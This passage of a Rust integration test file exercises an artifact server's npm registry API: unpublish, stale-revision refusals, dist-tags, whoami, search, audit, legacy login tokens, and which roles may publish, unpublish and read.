    let r = npm(s, Admin, Method::DELETE, &format!("{esc}/-rev/{rev}"))
        .send()
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    assert_nothing_stored(s, name, "whole package unpublished");
    let r = npm(s, Admin, Method::GET, &format!("-/package/{esc}/dist-tags"))
        .send()
        .unwrap();
    expect_error(r, 404, name, "dist-tags of an unpublished package");
    let r = npm(s, Admin, Method::DELETE, &format!("{esc}/-rev/{rev}"))
        .send()
        .unwrap();
    expect_error(r, 404, name, "unpublish twice");
    // a fresh start, with no dist-tag left behind
    publish(s, name, "1.1.0", "latest");
    assert_eq!(full(s, name)["dist-tags"], json!({"latest": "1.1.0"}));
}

#[test]
fn changes_made_on_an_old_packument_or_naming_nothing_are_refused() {
    let sh = shared();
    let s = &sh.s;
    let name = "stale";
    for v in ["1.0.0", "1.1.0"] {
        publish(s, name, v, "latest");
    }
    let stale = full(s, name);
    publish(s, name, "1.2.0", "latest");
    let current = full(s, name);

    // npm deprecate on the packument read before 1.2.0 was published: 409, 1.2.0 stays
    let mut doc = stale.clone();
    doc["versions"]["1.0.0"]["deprecated"] = json!("old");
    expect_error(
        put_doc(s, Admin, name, &doc),
        409,
        "read it again",
        "a stale change",
    );
    // without a _rev at all
    doc.as_object_mut().unwrap().remove("_rev");
    expect_error(
        put_doc(s, Admin, name, &doc),
        409,
        "_rev",
        "a change without _rev",
    );
    // a whole-package unpublish made on the old packument
    let old_rev = stale["_rev"].as_str().unwrap();
    let r = npm(s, Admin, Method::DELETE, &format!("{name}/-rev/{old_rev}"))
        .send()
        .unwrap();
    expect_error(r, 409, "read it again", "a stale unpublish");
    assert_eq!(full(s, name), current, "nothing changed");

    // a document that is neither a publish nor a change of the packument
    expect_error(
        put_doc(
            s,
            Admin,
            name,
            &json!({"name": name, "_rev": current["_rev"]}),
        ),
        400,
        "versions",
        "a bare name",
    );
    // a publish whose attachments went missing: a change naming an unpublished version
    let tarball = package_tgz(name, "2.0.0", "");
    let mut publish_without = publish_doc(name, "2.0.0", &tarball, "latest");
    publish_without["_attachments"] = json!({});
    publish_without["_rev"] = current["_rev"].clone();
    expect_error(
        put_doc(s, Admin, name, &publish_without),
        400,
        "2.0.0",
        "no attachment",
    );
    // a change removing every version (that is DELETE /{pkg}/-rev/{rev})
    let mut empty = current.clone();
    empty["versions"] = json!({});
    expect_error(
        put_doc(s, Admin, name, &empty),
        400,
        "every version",
        "all removed",
    );
    assert_eq!(full(s, name), current, "nothing changed");

    // versions with build metadata: npm drops it, so 1.0.0+a and 1.0.0+b would collide
    let tarball = package_tgz(name, "1.3.0+build.5", "");
    let r = put_doc(
        s,
        Admin,
        name,
        &publish_doc(name, "1.3.0+build.5", &tarball, "latest"),
    );
    expect_error(r, 400, "build metadata", "build metadata");
    assert_eq!(full(s, name), current, "nothing changed");
}

#[test]
fn dist_tags_list_add_remove_and_refusals() {
    let sh = shared();
    let s = &sh.s;
    let name = "tagged";
    publish(s, name, "1.0.0", "latest");
    publish(s, name, "1.1.0", "latest");
    let path = format!("-/package/{name}/dist-tags");
    let tags = || -> Value {
        npm(s, Reader, Method::GET, &path)
            .send()
            .unwrap()
            .json()
            .unwrap()
    };
    assert_eq!(tags(), json!({"latest": "1.1.0"}));
    let put = |who: Who<'_>, tag: &str, body: &str| {
        npm(s, who, Method::PUT, &format!("{path}/{tag}"))
            .header("content-type", "application/json")
            .body(body.to_string())
            .send()
            .unwrap()
    };
    let delete = |who: Who<'_>, tag: &str| {
        npm(s, who, Method::DELETE, &format!("{path}/{tag}"))
            .send()
            .unwrap()
    };
    assert_eq!(
        put(Admin, "beta", "\"1.0.0\"").status(),
        StatusCode::CREATED
    );
    assert_eq!(tags(), json!({"latest": "1.1.0", "beta": "1.0.0"}));
    assert_eq!(full(s, name)["dist-tags"]["beta"], "1.0.0");
    // latest may move to another version
    assert_eq!(
        put(Admin, "latest", "\"1.0.0\"").status(),
        StatusCode::CREATED
    );
    assert_eq!(abbreviated(s, name)["dist-tags"]["latest"], "1.0.0");
    let latest: Value = npm(s, Admin, Method::GET, &format!("{name}/latest"))
        .send()
        .unwrap()
        .json()
        .unwrap();
    assert_eq!(latest["version"], "1.0.0");
    // refusals
    expect_error(
        put(Admin, "beta", "\"9.9.9\""),
        404,
        "9.9.9",
        "unknown version",
    );
    expect_error(
        put(Admin, "1.x", "\"1.0.0\""),
        400,
        "version range",
        "a range as tag",
    );
    expect_error(
        put(Admin, "2.0.0", "\"1.0.0\""),
        400,
        "'2.0.0'",
        "a version as tag",
    );
    expect_error(
        put(Admin, "a%20b", "\"1.0.0\""),
        400,
        "Invalid dist-tag",
        "a space",
    );
    expect_error(
        put(Admin, "beta", "1.0.0"),
        400,
        "JSON string",
        "not a JSON string",
    );
    expect_error(
        put(Admin, "beta", "\"1.0\""),
        400,
        "Invalid version",
        "not a version",
    );
    expect_error(delete(Admin, "latest"), 400, "'latest'", "removing latest");
    expect_error(
        delete(Admin, "nope"),
        404,
        "nope",
        "removing an unknown tag",
    );
    let r = npm(s, Admin, Method::GET, "-/package/no-such-pkg/dist-tags")
        .send()
        .unwrap();
    expect_error(r, 404, "no-such-pkg", "tags of an unknown package");
    let r = npm(
        s,
        Admin,
        Method::PUT,
        "-/package/no-such-pkg/dist-tags/beta",
    )
    .body("\"1.0.0\"")
    .send()
    .unwrap();
    expect_error(r, 404, "1.0.0", "tag of an unknown package");
    // who may: reading is reading; a reader may not tag, a deployer may
    assert_eq!(
        put(Reader, "rc", "\"1.1.0\"").status(),
        StatusCode::FORBIDDEN
    );
    assert_eq!(delete(Reader, "beta").status(), StatusCode::FORBIDDEN);
    assert_eq!(
        put(Anon, "rc", "\"1.1.0\"").status(),
        StatusCode::UNAUTHORIZED
    );
    assert_eq!(
        put(Deployer, "rc", "\"1.1.0\"").status(),
        StatusCode::CREATED
    );
    assert_eq!(
        tags(),
        json!({"latest": "1.0.0", "beta": "1.0.0", "rc": "1.1.0"})
    );
    assert_eq!(delete(Admin, "beta").status(), StatusCode::OK);
    assert_eq!(delete(Deployer, "rc").status(), StatusCode::OK);
    assert_eq!(tags(), json!({"latest": "1.0.0"}));
}

#[test]
fn whoami_ping_search_audit_and_legacy_login() {
    let sh = shared();
    let s = &sh.s;
    // ping and the registry root: {} to whoever may read in the repository; anonymous
    // gets 401 (npm asks for a login) unless the repository has anonymousRead
    for rest in ["-/ping", ""] {
        for (repo, who) in [("npm", Reader), ("npm-open", Anon)] {
            let r = call(s, who, Method::GET, &reg(s, repo, rest))
                .send()
                .unwrap();
            assert_eq!(r.status(), StatusCode::OK, "{repo}/{rest}");
            assert_eq!(r.json::<Value>().unwrap(), json!({}));
        }
        let r = npm(s, Anon, Method::GET, rest).send().unwrap();
        assert!(r.headers().contains_key("www-authenticate"));
        expect_error(r, 401, "anonymous may not read npm", rest);
    }
    // whoami
    let whoami = |who: Who<'_>| npm(s, who, Method::GET, "-/whoami").send().unwrap();
    let r = whoami(Anon);
    assert_eq!(r.status(), StatusCode::UNAUTHORIZED);
    assert!(r.headers().contains_key("www-authenticate"));
    expect_error(r, 401, "Authentication is required", "whoami anonymous");
    let r = call(s, Anon, Method::GET, &reg(s, "npm-open", "-/whoami"))
        .send()
        .unwrap();
    expect_error(
        r,
        401,
        "anonymous is nobody",
        "whoami anonymous, anonymousRead",
    );
    assert_eq!(
        whoami(Reader).json::<Value>().unwrap(),
        json!({"username": "reader"})
    );

    // search: text, size, from, total
    for n in ["findme-alpha", "findme-beta", "findme-gamma"] {
        publish(s, n, "1.0.0", "latest");
    }
    publish(s, "findme-beta", "1.1.0", "latest");
    let search = |query: &str| -> Value {
        let r = npm(s, Reader, Method::GET, &format!("-/v1/search?{query}"))
            .send()
            .unwrap();
        assert_eq!(r.status(), StatusCode::OK, "{query}");
        r.json().unwrap()
    };
    let names = |doc: &Value| -> Vec<String> {
        doc["objects"]
            .as_array()
            .unwrap()
            .iter()
            .map(|o| o["package"]["name"].as_str().unwrap().to_string())
            .collect()
    };
    let all = search("text=findme");
    assert_eq!(all["total"], 3);
    assert_eq!(names(&all), ["findme-alpha", "findme-beta", "findme-gamma"]);
    let beta = &all["objects"][1]["package"];
    assert_eq!(beta["version"], "1.1.0");
    assert_eq!(beta["description"], "findme-beta, a test package");
    assert_eq!(beta["scope"], "unscoped");
    assert!(all["time"].is_string());
    let page = search("text=findme&size=2&from=0");
    assert_eq!(
        (page["total"].clone(), names(&page)),
        (
            json!(3),
            vec!["findme-alpha".to_string(), "findme-beta".to_string()]
        )
    );
    let page = search("text=findme&size=2&from=2");
    assert_eq!(
        (page["total"].clone(), names(&page)),
        (json!(3), vec!["findme-gamma".to_string()])
    );
    let none = search("text=nothing-matches-this");
    assert_eq!((none["total"].clone(), names(&none).len()), (json!(0), 0));
    let r = npm(s, Reader, Method::GET, "-/v1/search?text=x&size=lots")
        .send()
        .unwrap();
    expect_error(r, 400, "'size'", "size not a number");
    let r = npm(s, Reader, Method::GET, "-/v1/search?text=x&from=-1")
        .send()
        .unwrap();
    expect_error(r, 400, "'from'", "negative from");
    assert_eq!(
        npm(s, Anon, Method::GET, "-/v1/search?text=findme")
            .send()
            .unwrap()
            .status(),
        StatusCode::UNAUTHORIZED
    );

    // audit: no advisories
    let audit = |what: &str| {
        npm(
            s,
            Reader,
            Method::POST,
            &format!("-/npm/v1/security/{what}"),
        )
        .header("content-type", "application/json")
        .body(r#"{"findme-alpha":["1.0.0"]}"#)
        .send()
        .unwrap()
    };
    assert_eq!(audit("advisories/bulk").json::<Value>().unwrap(), json!({}));
    let quick: Value = audit("audits/quick").json().unwrap();
    assert_eq!(quick["advisories"], json!({}));
    assert_eq!(quick["metadata"]["vulnerabilities"]["critical"], 0);
    expect_error(
        audit("nothing"),
        404,
        "nothing",
        "unknown security endpoint",
    );

    // legacy login: a token for the right password, which then works as Bearer
    let login = |user: &str, body: Value| {
        npm(
            s,
            Anon,
            Method::PUT,
            &format!("-/user/org.couchdb.user:{user}"),
        )
        .header("content-type", "application/json")
        .body(body.to_string())
        .send()
        .unwrap()
    };
    let couch = |name: &str, password: &str| {
        json!({"_id": format!("org.couchdb.user:{name}"), "name": name, "password": password,
               "type": "user", "roles": [], "date": "2026-01-01T00:00:00.000Z"})
    };
    // a user of its own: a wrong password slows down that user's next logins
    let r = s
        .admin(Method::PUT, s.url("/api/security/users/npm-login"))
        .json(&json!({"password": PW}))
        .send()
        .unwrap();
    assert!(r.status().is_success(), "{}", r.text().unwrap());
    let permission = json!({"name": "npm-login", "repo": {"repositories": ["npm"],
        "actions": {"users": {"npm-login": ["read", "write"]}}}});
    let r = s
        .admin(Method::PUT, s.url("/api/v2/security/permissions/npm-login"))
        .json(&permission)
        .send()
        .unwrap();
    assert!(r.status().is_success(), "{}", r.text().unwrap());
    let r = login("npm-login", couch("npm-login", PW));
    assert_eq!(r.status(), StatusCode::CREATED);
    let answer: Value = r.json().unwrap();
    assert_eq!(answer["ok"], true);
    let token = answer["token"].as_str().unwrap().to_string();
    assert_eq!(
        whoami(Who::Bearer(&token)).json::<Value>().unwrap(),
        json!({"username": "npm-login"})
    );
    // ... and publishes as npm would with it in .npmrc
    let t = package_tgz("by-token", "1.0.0", "");
    let r = put_doc(
        s,
        Who::Bearer(&token),
        "by-token",
        &publish_doc("by-token", "1.0.0", &t, "latest"),
    );
    assert_eq!(r.status(), StatusCode::CREATED);
    assert_eq!(
        full(s, "by-token")["versions"]["1.0.0"]["_npmUser"]["name"],
        "npm-login"
    );
    expect_error(
        login("npm-login", couch("npm-login", "wrong")),
        401,
        "",
        "wrong password",
    );
    expect_error(
        login("nobody-here", couch("nobody-here", PW)),
        401,
        "",
        "unknown user",
    );
    expect_error(
        login("npm-login", couch("reader", PW)),
        400,
        "'name'",
        "name mismatch",
    );
    expect_error(
        login("npm-login", json!({"name": "npm-login"})),
        400,
        "'password'",
        "no password",
    );
    let r = npm(s, Anon, Method::PUT, "-/user/org.couchdb.user:npm-login")
        .body("{")
        .send()
        .unwrap();
    expect_error(r, 400, "not valid JSON", "bad JSON");
    assert_eq!(
        whoami(Who::Bearer("not-a-token")).status(),
        StatusCode::UNAUTHORIZED
    );
}

#[test]
fn who_may_publish_unpublish_and_read() {
    let sh = shared();
    let s = &sh.s;
    // a reader cannot publish; anonymous neither
    let name = "perm-pkg";
    let t = package_tgz(name, "1.0.0", "");
    let doc = publish_doc(name, "1.0.0", &t, "latest");
    expect_error(
        put_doc(s, Reader, name, &doc),
        403,
        "reader",
        "reader publishes",
    );
    assert_eq!(
        put_doc(s, Anon, name, &doc).status(),
        StatusCode::UNAUTHORIZED
    );
    assert_nothing_stored(s, name, "refused publishes");
    // a deployer (no delete) publishes, deprecates, but cannot unpublish
    assert_eq!(
        put_doc(s, Deployer, name, &doc).status(),
        StatusCode::CREATED
    );
    let t2 = package_tgz(name, "1.1.0", "");
    let r = put_doc(
        s,
        Deployer,
        name,
        &publish_doc(name, "1.1.0", &t2, "latest"),
    );
    assert_eq!(r.status(), StatusCode::CREATED);
    // npm checks nothing about overwriting: re-publish is 403 for everyone
    expect_error(
        put_doc(s, Deployer, name, &doc),
        403,
        "previously published",
        "re-publish",
    );
    let before = full(s, name);
    let mut dep = before.clone();
    dep["versions"]["1.0.0"]["deprecated"] = json!("old");
    assert_eq!(put_doc(s, Deployer, name, &dep).status(), StatusCode::OK);
    let mut dep = full(s, name);
    dep["versions"]["1.0.0"]["deprecated"] = json!("changed by a reader");
    expect_error(
        put_doc(s, Reader, name, &dep),
        403,
        "reader",
        "reader deprecates",
    );
    assert_eq!(full(s, name)["versions"]["1.0.0"]["deprecated"], "old");
    let rev = before["_rev"].as_str().unwrap();
    let mut without = full(s, name);
    without["versions"].as_object_mut().unwrap().remove("1.1.0");
    let r = put_doc(s, Deployer, &format!("{name}/-rev/{rev}"), &without);
    expect_error(r, 403, "deployer", "deployer unpublishes a version");
    let r = npm(
        s,
        Deployer,
        Method::DELETE,
        &format!("{name}/-/{name}-1.1.0.tgz/-rev/{rev}"),
    )
    .send()
    .unwrap();
    expect_error(r, 403, "deployer", "deployer deletes a tarball");
    let r = npm(s, Deployer, Method::DELETE, &format!("{name}/-rev/{rev}"))
        .send()
        .unwrap();
    expect_error(r, 403, "deployer", "deployer unpublishes the package");
    assert_eq!(versions_of(&full(s, name)), ["1.0.0", "1.1.0"]);
    assert_eq!(stored_tarballs(s, name).len(), 2);
    // reads: a reader reads, anonymous does not (no anonymousRead)
    let tarball = reg(s, "npm", &format!("{name}/-/{name}-1.0.0.tgz"));
    assert_eq!(packument_as(s, Reader, name, NPM_ACCEPT).0, StatusCode::OK);
    assert_eq!(
        tarball_bytes(s, Reader, &tarball),
        (StatusCode::OK, t.clone())
    );
    let (st, _, _) = packument_as(s, Anon, name, NPM_ACCEPT);
    assert_eq!(st, StatusCode::UNAUTHORIZED);
    assert_eq!(tarball_bytes(s, Anon, &tarball).0, StatusCode::UNAUTHORIZED);

    // anonymous reads follow the repository's anonymousRead switch
    s.create_repo(
        "npm-toggle",
        json!({"rclass": "local", "packageType": "npm", "anonymousRead": true}),
    );
    let r = call(s, Admin, Method::PUT, &reg(s, "npm-toggle", name))
        .header("content-type", "application/json")
        .body(doc.to_string())
        .send()
        .unwrap();
    assert_eq!(r.status(), StatusCode::CREATED);
    let anon_reads = || {
        let p = call(s, Anon, Method::GET, &reg(s, "npm-toggle", name))
            .send()
            .unwrap();
        let t = call(
            s,
            Anon,
            Method::GET,
            &reg(s, "npm-toggle", &format!("{name}/-/{name}-1.0.0.tgz")),
        )
        .send()
        .unwrap();
        (p.status(), t.status())
    };
    assert_eq!(anon_reads(), (StatusCode::OK, StatusCode::OK));
    let open_tarball =
        full_in(s, "npm-toggle", name)["versions"]["1.0.0"]["dist"]["tarball"].clone();
    assert_eq!(
        open_tarball,
        reg(s, "npm-toggle", &format!("{name}/-/{name}-1.0.0.tgz"))
    );
    // ... but anonymous may not publish there
    let doc2 = publish_doc(name, "2.0.0", &package_tgz(name, "2.0.0", ""), "latest");
    let r = call(s, Anon, Method::PUT, &reg(s, "npm-toggle", name))
        .header("content-type", "application/json")
        .body(doc2.to_string())
        .send()
        .unwrap();
    assert_eq!(r.status(), StatusCode::UNAUTHORIZED);
    let r = s
        .admin(Method::POST, s.url("/api/repositories/npm-toggle"))
        .json(&json!({"anonymousRead": false}))
        .send()
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    within(Duration::from_secs(5), "anonymous reads refused", || {
        anon_reads() == (StatusCode::UNAUTHORIZED, StatusCode::UNAUTHORIZED)
    });

    // the npm API of a repository of another type
    s.generic_repo("not-npm");
    let r = call(s, Admin, Method::GET, &reg(s, "not-npm", "x"))
        .send()
        .unwrap();
    expect_error(r, 400, "not an npm one", "generic repository");
}

fn full_in(s: &Server, repo: &str, name: &str) -> Value {
    call(s, Admin, Method::GET, &reg(s, repo, &escaped(name)))
        .send()
        .unwrap()
        .json()
        .unwrap()
}

#[test]
fn plain_deploys_into_an_npm_repository_are_refused() {
    let sh = shared();
    let s = &sh.s;
    let t = package_tgz("sneaky", "1.0.0", "");
    for path in ["/npm/sneaky/-/sneaky-1.0.0.tgz", "/npm/other.txt"] {
        let (status, msg) = error_message(s.put(path, t.clone()));
        assert_eq!(status, StatusCode::CONFLICT, "{path}: {msg}");
        assert!(msg.contains("npm"), "{path}: {msg}");
    }
    assert_nothing_stored(s, "sneaky", "plain deploy");
    assert_eq!(
        s.get("/api/storage/npm/other.txt").status(),
        StatusCode::NOT_FOUND
    );
}
